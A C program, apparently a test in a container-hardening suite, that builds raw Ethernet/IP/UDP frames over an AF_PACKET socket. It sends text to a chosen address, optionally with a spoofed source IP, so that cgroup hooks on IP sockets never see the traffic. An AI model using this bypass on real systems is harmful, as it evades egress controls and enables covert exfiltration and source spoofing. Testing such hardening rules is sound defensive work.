/* SPDX-License-Identifier: GPL-2.0-only */
/*
 * The attack of HARDENING rule 5: a UDP datagram in a frame of the program's own making, sent through AF_PACKET.
 * No IP socket of the container takes part, so no cgroup hook of an IP socket sees it.
 * Usage: packet-socket INTERFACE ADDRESS PORT TEXT [GATEWAY [SOURCE]]. Exit code 0: the frame was handed to the interface.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <netinet/if_ether.h>
#include <netinet/ip.h>
#include <netinet/udp.h>
#include <poll.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <unistd.h>

#define ARP_ATTEMPTS 20
#define ARP_WAIT_MS 100
#define TEXT_BYTES 200

struct link {
	int socket;
	int index;
	unsigned char mac[ETH_ALEN];
	struct in_addr address;
};

static int open_link(struct link *link, const char *name)
{
	struct ifreq request = { 0 };
	struct sockaddr_ll local = { .sll_family = AF_PACKET, .sll_protocol = htons(ETH_P_ALL) };
	int inet = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);

	snprintf(request.ifr_name, sizeof(request.ifr_name), "%s", name);
	link->index = (int)if_nametoindex(name);
	if (inet < 0 || link->index == 0 || ioctl(inet, SIOCGIFHWADDR, &request) < 0)
		return -1;
	memcpy(link->mac, request.ifr_hwaddr.sa_data, ETH_ALEN);
	if (ioctl(inet, SIOCGIFADDR, &request) < 0)
		return -1;
	link->address = ((struct sockaddr_in *)&request.ifr_addr)->sin_addr;
	close(inet);
	link->socket = socket(AF_PACKET, SOCK_RAW | SOCK_CLOEXEC, htons(ETH_P_ALL));
	local.sll_ifindex = link->index;
	return link->socket < 0 ? -1 : bind(link->socket, (struct sockaddr *)&local, sizeof(local));
}

/* The default gateway as /proc/net/route has it: destination 00000000, addresses in network order as hexadecimal. */
static int gateway_of(const char *interface, struct in_addr *gateway)
{
	char line[256], name[IFNAMSIZ];
	unsigned int destination, address;
	int found = -1;
	FILE *routes = fopen("/proc/net/route", "re");

	if (!routes)
		return -1;
	while (found < 0 && fgets(line, sizeof(line), routes)) {
		if (sscanf(line, "%15s %x %x", name, &destination, &address) != 3)
			continue;
		if (strcmp(name, interface) == 0 && destination == 0 && address != 0) {
			gateway->s_addr = address;
			found = 0;
		}
	}
	fclose(routes);
	return found;
}

static int ask_mac(const struct link *link, struct in_addr target, unsigned char *mac)
{
	struct {
		struct ether_header ethernet;
		struct ether_arp arp;
	} __attribute__((packed)) question = { 0 }, answer;
	struct pollfd ready = { .fd = link->socket, .events = POLLIN };

	memset(question.ethernet.ether_dhost, 0xff, ETH_ALEN);
	memcpy(question.ethernet.ether_shost, link->mac, ETH_ALEN);
	question.ethernet.ether_type = htons(ETHERTYPE_ARP);
	question.arp.arp_hrd = htons(ARPHRD_ETHER);
	question.arp.arp_pro = htons(ETHERTYPE_IP);
	question.arp.arp_hln = ETH_ALEN;
	question.arp.arp_pln = sizeof(struct in_addr);
	question.arp.arp_op = htons(ARPOP_REQUEST);
	memcpy(question.arp.arp_sha, link->mac, ETH_ALEN);
	memcpy(question.arp.arp_spa, &link->address, sizeof(struct in_addr));
	memcpy(question.arp.arp_tpa, &target, sizeof(struct in_addr));
	for (int attempt = 0; attempt < ARP_ATTEMPTS; attempt++) {
		if (send(link->socket, &question, sizeof(question), 0) < 0)
			return -1;
		while (poll(&ready, 1, ARP_WAIT_MS) > 0) {
			ssize_t length = recv(link->socket, &answer, sizeof(answer), 0);

			if (length < (ssize_t)sizeof(answer) || answer.ethernet.ether_type != htons(ETHERTYPE_ARP) ||
			    answer.arp.arp_op != htons(ARPOP_REPLY) ||
			    memcmp(answer.arp.arp_spa, &target, sizeof(target)) != 0)
				continue;
			memcpy(mac, answer.arp.arp_sha, ETH_ALEN);
			return 0;
		}
	}
	errno = EHOSTUNREACH;
	return -1;
}

/* RFC 1071 */
static unsigned short checksum(const void *bytes, size_t length)
{
	const unsigned char *byte = bytes;
	unsigned int sum = 0;

	for (size_t i = 0; i + 1 < length; i += 2)
		sum += (unsigned int)byte[i] << 8 | byte[i + 1];
	while (sum >> 16)
		sum = (sum & 0xffff) + (sum >> 16);
	return htons((unsigned short)~sum);
}

static int send_datagram(const struct link *link, const unsigned char *mac, struct in_addr to, unsigned short port,
			 const char *text)
{
	size_t length = strnlen(text, TEXT_BYTES);
	struct {
		struct ether_header ethernet;
		struct iphdr ip;
		struct udphdr udp;
		char text[TEXT_BYTES];
	} __attribute__((packed)) frame = { 0 };

	memcpy(frame.ethernet.ether_dhost, mac, ETH_ALEN);
	memcpy(frame.ethernet.ether_shost, link->mac, ETH_ALEN);
	frame.ethernet.ether_type = htons(ETHERTYPE_IP);
	frame.ip.version = 4;
	frame.ip.ihl = 5;
	frame.ip.ttl = 64;
	frame.ip.protocol = IPPROTO_UDP;
	frame.ip.tot_len = htons((unsigned short)(sizeof(frame.ip) + sizeof(frame.udp) + length));
	frame.ip.saddr = link->address.s_addr;
	frame.ip.daddr = to.s_addr;
	frame.ip.check = checksum(&frame.ip, sizeof(frame.ip));
	frame.udp.source = htons(40000);
	frame.udp.dest = htons(port);
	frame.udp.len = htons((unsigned short)(sizeof(frame.udp) + length));
	memcpy(frame.text, text, length);
	length += sizeof(frame) - sizeof(frame.text);
	return send(link->socket, &frame, length, 0) == (ssize_t)length ? 0 : -1;
}

int main(int count, char **arguments)
{
	struct link link;
	struct in_addr gateway, target;
	unsigned char mac[ETH_ALEN];

	if (count < 5 || count > 7 || inet_pton(AF_INET, arguments[2], &target) != 1 ||
	    (count >= 6 && inet_pton(AF_INET, arguments[5], &gateway) != 1)) {
		fprintf(stderr, "usage: packet-socket INTERFACE ADDRESS PORT TEXT [GATEWAY [SOURCE]]\n");
		return 64;
	}
	if (open_link(&link, arguments[1]) < 0 || (count == 5 && gateway_of(arguments[1], &gateway) < 0) ||
	    ask_mac(&link, gateway, mac) < 0 || (count == 7 && inet_pton(AF_INET, arguments[6], &link.address) != 1) ||
	    send_datagram(&link, mac, target, (unsigned short)atoi(arguments[3]), arguments[4]) < 0) {
		perror("packet-socket");
		return 1;
	}
	return 0;
}
